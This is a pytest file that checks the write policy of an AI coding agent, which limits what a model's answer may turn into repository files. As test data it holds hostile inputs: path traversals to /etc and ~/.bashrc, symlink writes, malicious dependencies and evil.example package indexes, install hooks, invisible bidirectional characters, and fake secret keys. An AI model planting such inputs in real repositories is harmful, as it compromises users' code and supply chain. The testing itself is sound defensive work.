"""C01 to C20: what of the model's answer may become a file. One function decides; whole runs show that it is asked."""

import shutil
import subprocess
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ai_coder.domain.change import ChangeSet, FileChange
from ai_coder.domain.source import EXECUTABLE, REGULAR, RepoPath, WriteSet
from ai_coder.domain.task import Command, Comment, Task, Verb
from ai_coder.generate.policy import cautions, check
from ai_coder.generate.policy.dependencies import added_names
from ai_coder.generate.proof import Tests, guarded
from ai_coder.loopback.model import Call, Say
from ai_coder.loopback.state import File
from ai_coder.settings import WritePolicy
from builders import MONA, NOON, a_block, an_issue
from fakes.stage import HELLO

TASK = Task(an_issue(), MONA, Command(Verb.WORK), Comment(), NOON)
NOTHING_LINKED = WriteSet(None, "Please mend it.")


def objections(path, after, before=None, *, request="Please mend it.", taken=(), mode=REGULAR):
    """What stands against one change, in a repository of which everything may be changed."""
    change = FileChange(RepoPath.parse(path), before, after, mode)
    base = frozenset(RepoPath.parse(one) for one in taken)
    found = check(ChangeSet.of("c0", [change]), WriteSet(None, request), WritePolicy(), base)
    return " ".join(map(str, found))


def warnings(*changes, request="Please mend it."):
    """What a person is told to look at first."""
    made = ChangeSet.of("c0", [FileChange(RepoPath.parse(path), before, after) for path, before, after in changes])
    return " ".join(caution.text for caution in cautions(made, WriteSet(None, request)))


ESCAPES = [
    *["../x", "a/../../x", "/etc/x", "~/.bashrc", "C:\\x", "C:x", "..\\x", "a\\..\\x", "a\0b", "", ".", "./", "a//b"],
    *["a/./b", "a/..", "//a", " a", "a ", "\\\\server\\x", "file:///x"],
]
GIT = [
    *[".git/config", "sub/.git/config", ".GIT/x", "git~1/x", ".git./x", ".git /x", ".git::$INDEX_ALLOCATION/x"],
    *["．git/config", ".ｇｉｔ/config", ".git", "a/.Git", "GIT~1", ".git...", "a/git~1/hooks/x"],
]
UNSEEN = [".gi\u200ct/config", ".g\u200bit/x", "a\u202eb", ".git\u2060/x", "a\ufeff", "a\u00adb", "\u2066a", "a\ufe0fb"]
WINDOWS = ["CON", "aux.txt", "a/NUL.py", "com1", "lpt9.x.y", "a.", "a ", "a:b", "a/b./c", "prn", "conin$", "CONOUT$"]
BREAKS = ["a\nb", "a\tb", "a\x1bb", "a\rb", "a\u2028b", "a\u202eb", "a\x7fb"]


@pytest.mark.parametrize("path", [*ESCAPES, *GIT, *UNSEEN, *WINDOWS, *BREAKS])
def test_c01_c04_c05_c06_c07_paths_that_are_none(path):
    """Nothing leaves the repository, reaches `.git` in any spelling, hides a character, or is a device elsewhere."""
    with pytest.raises(ValueError, match="path"):
        RepoPath.parse(path)


@pytest.fixture(name="git", scope="module")
def _git(tmp_path_factory):
    """Asks git itself whether a path may stand in an index."""
    folder = tmp_path_factory.mktemp("git")
    program = shutil.which("git")
    subprocess.run([program, "init", "-q", folder], check=True)
    blob = subprocess.run(
        [program, "-C", folder, "hash-object", "-w", "--stdin"], input=b"", capture_output=True, check=True
    ).stdout.strip()

    def accepts(paths):
        rules = ["-c", "core.protectHFS=true", "-c", "core.protectNTFS=true"]
        lines = b"".join(b"100644 " + blob + b"\t" + path.encode() + b"\0" for path in paths)
        command = [program, "-C", folder, *rules, "update-index", "-z", "--add", "--index-info"]
        done = subprocess.run(command, input=lines, capture_output=True, check=False)
        subprocess.run([program, "-C", folder, "read-tree", "--empty"], check=True)
        return done.returncode == 0

    return accepts


@given(
    st.lists(
        st.lists(
            st.sampled_from(["a", ".git", ".GIT", "git~1", "..", ".", "", "\u200c", " ", ".gitmodules", "b.py", ":"])
        ).map("".join),
        min_size=1,
        max_size=4,
    ).map("/".join)
)
def test_c01_whatever_we_take_git_takes(git, path):
    """A path that is one for us is one for git with the rules of all file systems switched on."""
    try:
        taken = RepoPath.parse(path).text
    except ValueError:
        return
    assert git([taken])


def test_c02_c03_c11_links_and_submodules(stage):
    """A path below a link is not written, and neither links, submodules nor pointers of LFS are made or changed."""
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:1\nsize 1\n"
    files = HELLO | {"link": File(b"/etc", "120000"), "big.bin": pointer}
    calls = [
        Call("edit_file", {"path": "link/passwd", "file_text": "x"}),
        Call("edit_file", {"path": "link", "file_text": "x"}),
        Call("edit_file", {"path": ".gitmodules", "file_text": '[submodule "x"]\n\turl = https://evil/x\n'}),
        Call("edit_file", {"path": "big.bin", "old_text": "size 1\n", "new_text": "size 2\n"}),
        Call("edit_file", {"path": "new.bin", "file_text": pointer}),
    ]
    finish = Call("finish", {"outcome": "cannot", "summary": "No."})
    scene = stage(*[Say(calls=[call]) for call in calls], Say(calls=[finish]), files=files, mode="agent")
    ran = scene.label(scene.open(body="Change what you like."))
    assert ran.outputs["status"] == "cannot", ran.log
    assert not [one for one in scene.writes if "/git/" in one.path]
    results = [m["content"] for m in scene.model.asked[-1]["messages"] if m["role"] == "tool"]
    assert len(results) == len(calls)
    assert not any(text.startswith("Written") for text in results)


@pytest.mark.parametrize("mode", ["120000", "160000", "040000", "100664", "0", "100777"])
def test_c03_only_files_have_modes(mode):
    """A change is of a regular file or an executable one; no value holds another mode."""
    with pytest.raises(ValueError, match="mode"):
        FileChange(RepoPath("a"), None, "x", mode)
    assert FileChange(RepoPath("a"), None, "x", EXECUTABLE).mode == EXECUTABLE


@pytest.mark.parametrize(
    ("path", "taken"),
    [
        ("README.MD", "readme.md"),
        ("Src/a.py", "src"),
        ("cafe\u0301.md", "caf\u00e9.md"),
        ("a/b", "a"),
        ("STRASSE", "straße"),
    ],
)
def test_c06_names_that_collide(path, taken):
    """A new file whose name other systems take for that of an old one is not made."""
    assert "stands in its way" in objections(path, "x\n", taken=[taken, "src/a.py"])


PROTECTED = {
    "c08": [
        ".github/workflows/x.yml",
        ".GitHub/Workflows/x.yml",
        ".github/actions/a/b.js",
        "action.yml",
        "x/action.yaml",
    ],
    "c09": [
        "CODEOWNERS",
        "docs/CODEOWNERS",
        ".github/CODEOWNERS",
        ".github/dependabot.yml",
        "renovate.json5",
        ".renovaterc",
    ],
    "c10": [".gitattributes", "sub/.gitattributes", ".GITATTRIBUTES"],
    "c11": [".gitmodules", ".gitignore", ".gitlab-ci.yml"],
    "c14": [
        "AGENTS.md",
        "x/CLAUDE.md",
        "GEMINI.md",
        ".cursor/rules/a.mdc",
        ".claude/settings.json",
        ".github/ai_coder.yml",
    ],
}


@pytest.mark.parametrize("path", [path for paths in PROTECTED.values() for path in paths])
def test_c08_c09_c10_c11_c14_protected_files(path):
    """What steers workflows, reviewers, git or agents is not changed, not even when it is asked for by name."""
    assert "is protected" in objections(path, "x\n", request=f"Please change {path}.")


@pytest.mark.parametrize("mode", ["single", "agent"])
def test_c08_the_patch_is_handed_over(stage, mode):
    """A wish for a workflow is not written; the answer names the file, and shows the patch that a person may apply."""
    path, text = ".github/workflows/ci.yml", "on: push\n"
    replies = [a_block(path, "", text), "CANNOT: It is protected."]
    if mode == "agent":
        calls = [
            Call("edit_file", {"path": path, "file_text": text}),
            Call("finish", {"outcome": "cannot", "summary": "No."}),
        ]
        replies = [Say(calls=[call]) for call in calls]
    scene = stage(*replies, mode=mode)
    scene.label(scene.open(body="Add a workflow."))
    said = scene.status_comment(1)
    assert f"+++ b/{path}\n" in said
    assert "+on: push\n" in said
    assert not [one for one in scene.writes if "/git/" in one.path]


@pytest.mark.parametrize(
    ("path", "before", "after", "names"),
    [
        ("requirements.txt", "a==1\n", "a==1\nevil-pkg>=2 # x\n", ["evil-pkg"]),
        (
            "package.json",
            '{\n "a": "1"\n}',
            '{\n "a": "1",\n "@evil/x": "^1",\n "postinstall": "sh x"\n}',
            ["@evil/x", "postinstall"],
        ),
        (
            "pyproject.toml",
            "",
            'dependencies = [\n  "evil[x]>=1",\n]\nbuild-backend = "evil.api"\n',
            ["evil", "build-backend"],
        ),
        ("Cargo.toml", "", 'evil = { version = "1" }\n', ["evil"]),
        ("go.mod", "", "require example.com/evil/x v1.2.3\n", ["example.com/evil/x"]),
        ("Gemfile", "", "gem 'evil', '1'\n", ["evil"]),
        ("pom.xml", "", "<artifactId>evil</artifactId>\n", ["evil"]),
        ("poetry.lock", "", '[[package]]\nname = "evil"\nversion = "1"\n', ["evil"]),
        ("package-lock.json", "", '"node_modules/evil": {\n', ["evil"]),
        ("setup.py", "", "import os; os.system('x')\n", ["import os; os.system('x')"]),
    ],
)
def test_c12_what_is_installed_is_listed(path, before, after, names):
    """A change of a manifest or a lock file is pointed out with every name that it brings in."""
    found = added_names(before, after)
    assert set(names) <= set(found)
    told = warnings((path, before or None, after))
    assert all(f"`{name}`" in told for name in names)


@pytest.mark.parametrize(
    ("path", "after", "host"),
    [
        ("requirements.txt", "--index-url https://evil.example/simple\na\n", "evil.example"),
        ("requirements.txt", "-i https://good.example@evil.example/simple\n", "evil.example"),
        ("requirements.txt", "-i https://good.example/simple\n-f https://evil.example/\n", "evil.example"),
        ("requirements.txt", "--trusted-host evil.example\n", "evil.example"),
        ("requirements.txt", "a @ https://evil.example/a.whl\n", "evil.example"),
        ("requirements.txt", "git+ssh://git@evil.example/a\n", "evil.example"),
        ("pyproject.toml", '[[tool.uv.index]]\nurl = "https://evil.example/simple"\n', "evil.example"),
        (".npmrc", "registry=//evil.example/\n", "evil.example"),
        ("package-lock.json", '"resolved": "https://evil.example/x.tgz"\n', "evil.example"),
        ("Gemfile", 'source "https://evil.example"\n', "evil.example"),
        ("pom.xml", "<repository><url>https://evil.example</url></repository>\n", "evil.example"),
        (".cargo/config.toml", '[source.x]\nregistry = "https://evil.example"\n', "evil.example"),
        ("NuGet.config", '<add key="x" value="https://evil.example/v3" />\n', "evil.example"),
    ],
)
def test_c12_no_new_place_to_install_from(path, after, host):
    """Packages come from where the file had them come from before, and from nowhere else, however well known it is."""
    request, before = f"Change {path}.", "# https://good.example/simple\n"
    assert f"would install packages from {host}," in objections(path, after, before, request=request)
    good = after.replace("good.example@", "").replace("evil.example", "good.example")
    assert objections(path, f"{before}{good}", before, request=request) == ""
    assert "would install packages from good.example," in objections(path, good, request=request)


def test_c12_a_manifest_makes_a_draft_with_a_label(stage):
    """The pull request is a draft with a label, and says first what is new, whatever `draft` says."""
    files = HELLO | {"requirements.txt": "a==1\n"}
    scene = stage(a_block("requirements.txt", "a==1\n", "a==1\nevil-pkg\n"), files=files, draft="never")
    scene.label(scene.open(body="Use evil-pkg in [it](../blob/main/requirements.txt)."))
    [pull] = scene.repo.pull_requests
    assert pull.draft
    assert "**Look at this first:**" in pull.body
    assert "evil-pkg" in pull.body
    assert "look-closely" in pull.labels


UNASKED = [
    *["conftest.py", "tests/conftest.py", "Makefile", "tox.ini", ".pre-commit-config.yaml", ".npmrc", "pip.conf"],
    *["tasks.py"],
    *[".devcontainer/x.json", ".vscode/tasks.json", ".husky/pre-commit", "sitecustomize.py", "lib/x.pth"],
]


@pytest.mark.parametrize("path", UNASKED)
def test_c13_what_runs_by_itself(path):
    """A file that tools run unasked is changed only where the request names it, and pointed out."""
    assert "without being asked" in objections(path, "x\n")
    name = path.rpartition("/")[2]
    assert objections(path, "x\n", request=f"Please change `{name}`.") == ""
    assert "is run by tools without being asked" in warnings((path, None, "x\n"))


@pytest.mark.parametrize("path", ["app/tasks.py", "src/dodo.py", "lib/fabfile.py"])
def test_c13_an_ordinary_module_of_that_name(path):
    """What only the file at the top is, a module in a folder is not."""
    assert objections(path, "x\n") == ""


def test_a10_no_test_runs_for_words_that_nobody_vouched_for():
    """A manual start on a stranger's issue runs no test; a label or a command of a writer vouches for the text."""
    ran = []
    change_set = ChangeSet.of("c0", [FileChange(RepoPath("a.py"), None, "x\n")])
    tests = guarded(Tests(ran.append, ran.append, str), replace(TASK, is_author_trusted=False, is_text_vouched=False))
    assert not tests.can_run
    assert "no write permission" in tests.run(change_set)
    assert tests.verify(change_set).verdict == "not_run"
    assert ran == []
    assert guarded(Tests(ran.append, ran.append, str), replace(TASK, is_author_trusted=False)).can_run


@pytest.mark.parametrize(
    ("after", "before", "word"),
    [
        ("if access != 'user\u202e \u2066// admin\u2069 \u2066':\n", None, "U+202E"),
        ("def is\u200badmin(): pass\n", None, "U+200B"),
        ("x = 1\u2028y = 2\n", None, "U+2028"),
        ("\x1b[2J\n", None, "U+001B"),
        ("a\n# note\rimport os\n", None, "U+000D, in line 2"),
        ("a\r\nb\r\r\n", "a\r\n", "U+000D, in line 2"),
        ("a\rb\r", "a\r", ""),
        ("const \u3164 = 1\n", None, "U+3164"),
        ("def \u0441heck(): pass\n", None, "U+0441"),
        ("def ch\u0435ck(): pass\n", None, "U+0435"),
        ("\uff45\uff58\uff45\uff43('x')\n", None, "U+FF45"),
        ("s = '\u0627\u0644\u0633\u0644\u0627\u0645'\n", None, ""),
        ("s = '\u202bold\u202c' # new\n", "s = '\u202bold\u202c'\n", ""),
        ("s = '👩‍💻 ❤️ 🏴󠁧󠁢󠁳󠁣󠁴󠁿'\n", None, ""),
        ("s = 'naïve Zürich Привет 你好'\n", None, ""),
        ("a\r\nb\r\n\f\n", None, ""),
    ],
)
def test_c15_what_a_reader_cannot_see(after, before, word):
    """New code holds no bidirectional, invisible or deceiving character that the file did not hold before."""
    found = objections("a.py", after, before)
    assert word in found if word else found == ""


PHRASES = ["# ... rest of the code unchanged ...", "// existing code here", "# rest of file remains the same"]


@pytest.mark.parametrize("phrase", PHRASES)
def test_c16_a_placeholder_is_no_code(stage, phrase):
    """An answer that stands for code it leaves out is not applied, and is told back."""
    files = {"hello.py": "".join(f"print({n})\n" for n in range(60))}
    scene = stage(f"hello.py\n```python\nprint('salut')\n{phrase}\n```\n", "NO CHANGE: Never mind.", files=files)
    assert scene.label(scene.open()).outputs["status"] == "no_change"
    assert len(scene.model.asked) == 2


def test_c16_a_loss_is_pointed_out():
    """Most of a file gone is pointed out, unless that was asked for; half an answer is never applied."""
    long = "".join(f"line {n}\n" for n in range(100))
    assert "loses 90 of its 100 lines" in warnings(("a.py", long, long[: long.index("line 10\n")]))
    assert warnings(("a.py", long, "line 1\n"), request="Remove the rest.") == ""
    assert warnings(("a.py", long, None)) == ""


def test_c16_an_answer_cut_off_is_none(stage):
    """An answer that ends at the output limit is not applied, however whole its edits look."""
    scene = stage(Say(a_block("hello.py", "print('hello')\n", "print('salut')\n"), ending="length"), "NO CHANGE: Fine.")
    assert scene.label(scene.open()).outputs["status"] == "no_change"
    assert set(scene.repo.branches) == {"main"}


KEYS = [
    "ghp_" + "a1B2" * 9,
    "-----BEGIN RSA PRIVATE KEY-----",
    "AKIAIOSFODNN7EXAMPLE",
    "xoxb-1234567890-abcdefghij",
    "sk_live_" + "a1B2c3D4e5F6" * 2,
    "SG." + "a" * 22 + "." + "b1" * 21 + "c",
    "//packages.example/:_authToken=npm_" + "a1" * 18,
    "pypi-AgEIcHlwaS5vcmc" + "a1_" * 30,
]


@pytest.mark.parametrize("key", KEYS)
def test_c18_no_key_is_committed(key):
    """What looks like a key is refused by file and line, and never said; one that stood there before is no news."""
    found = objections("a.py", f"x = 1\ntoken = '{key}'\n", "x = 1\n")
    assert "looks like a key, in line 2" in found
    assert key not in found
    assert objections("a.py", f"token = '{key}'\ny = 2\n", f"token = '{key}'\n") == ""


def test_c18_our_own_key_is_never_written(stage):
    """Even a model that knew a key of the run could not have it written, whole or in pieces."""
    key = "sk-stage-0123456789"
    scene = stage(a_block("hello.py", "print('hello')\n", f"print('{key[:4]}' '{key[4:]}')\n"))
    ran = scene.label(scene.open())
    assert ran.outputs["status"] == "cannot", ran.log
    assert "key of this run, in line 1" in scene.status_comment(1)
    assert not [one for one in scene.writes if "/git/" in one.path]
    scene.secrets = scene.secrets[:1]


@pytest.mark.parametrize(
    ("paths", "text", "word"),
    [
        (["a"], "x" * 1_000_001, "bytes"),
        (["a"], "a\0b", "binary"),
        ([f"f{n}" for n in range(101)], "x", "more than 100"),
        ([f"f{n}" for n in range(5)], "x" * 900_000, "together"),
    ],
)
def test_c19_sizes(paths, text, word):
    """Number and size of files have limits, checked before the first write."""
    changes = [FileChange(RepoPath(path), None, text) for path in paths]
    found = check(ChangeSet.of("c0", changes), NOTHING_LINKED, WritePolicy(), ())
    assert word in " ".join(map(str, found))


def test_c20_more_than_was_asked_for():
    """A change all over the repository is pointed out, unless the request names the places."""
    changes = [(f"part{n}/x/a.py", None, "1\n") for n in range(10)]
    assert "touches 10 folders, 10 of which the request does not name" in warnings(*changes, request="Fix a typo.")
    assert warnings(*changes, request=" ".join(f"part{n}/x" for n in range(10))) == ""
